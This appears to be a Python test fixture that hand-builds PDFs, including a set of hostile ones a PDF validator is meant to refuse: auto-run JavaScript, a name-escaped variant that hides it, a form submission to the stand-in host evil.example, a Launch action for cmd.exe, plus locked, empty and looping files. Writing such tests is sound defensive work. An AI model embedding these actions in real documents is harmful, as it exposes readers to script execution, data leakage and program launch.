"""Small PDFs made by hand: plain, hostile, locked."""

from collections.abc import Sequence


def paper(pages: int = 1, more: bytes = b"", size: bytes = b"595 842") -> bytes:
    """Pages of A4, each with a black bar; its author's name is a canary."""
    drawn = b"0 0 0 rg 100 400 300 100 re f"
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(pages))
    return written(
        [
            b"<</Type/Catalog/Pages 2 0 R" + more + b">>",
            b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids),
            b"<</Author(Canary)/Creator(Canary-Office)>>",
            b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn),
            *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 %s]/Contents 4 0 R>>" % size] * pages,
        ]
    )


def written(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """Numbered objects with their table; the first is the catalogue, the third tells of the author."""
    out, places = b"%PDF-1.7\n", []
    for n, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj" % n + body + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer<</Size %d/Root 1 0 R/Info 3 0 R%s>>\n" % (len(objects) + 1, trailer)
    return out + head + table + end + b"startxref\n%d\n%%%%EOF\n" % len(out)


LOCK = b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>/ID[<00><00>]" % (b"11" * 32, b"22" * 32)
ACTIVE = {
    "runs": paper(more=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "hides what it runs": paper(more=b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "sends a form": paper(more=b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"),
    "starts a program": paper(more=b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "has no page": paper(0),
    "has too many pages": paper(41),
    "is locked": written(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>", b"<<>>"], LOCK
    ),
    "is only a head": b"%PDF-1.4\n%%EOF",
    "goes round in circles": paper(more=b"").replace(b"/Kids[5 0 R]", b"/Kids[2 0 R]"),
}
"""Each is refused."""
